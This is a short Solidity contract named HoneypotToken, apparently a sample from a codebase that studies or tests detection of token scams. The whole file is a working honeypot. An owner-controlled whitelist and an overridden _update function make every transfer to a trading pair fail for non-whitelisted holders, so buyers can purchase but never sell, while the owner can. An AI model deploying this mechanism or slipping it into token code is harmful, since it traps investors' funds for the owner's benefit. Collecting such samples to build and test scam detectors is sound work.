// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "../lib/ERC20.sol";
import {Ownable} from "../lib/Ownable.sol";
import {PairAware} from "./PairAware.sol";

/// @notice Buys work, but only whitelisted holders can send tokens to a pair, so nobody else can sell.
contract HoneypotToken is ERC20, PairAware {
    mapping(address => bool) public isWhitelisted;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_, 18) Ownable(msg.sender) {
        isWhitelisted[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function setWhitelisted(address account, bool allowed) external onlyOwner {
        isWhitelisted[account] = allowed;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (isPair[to] && !isWhitelisted[from]) revert("TRANSFER_FAILED");
        _move(from, to, amount);
    }
}
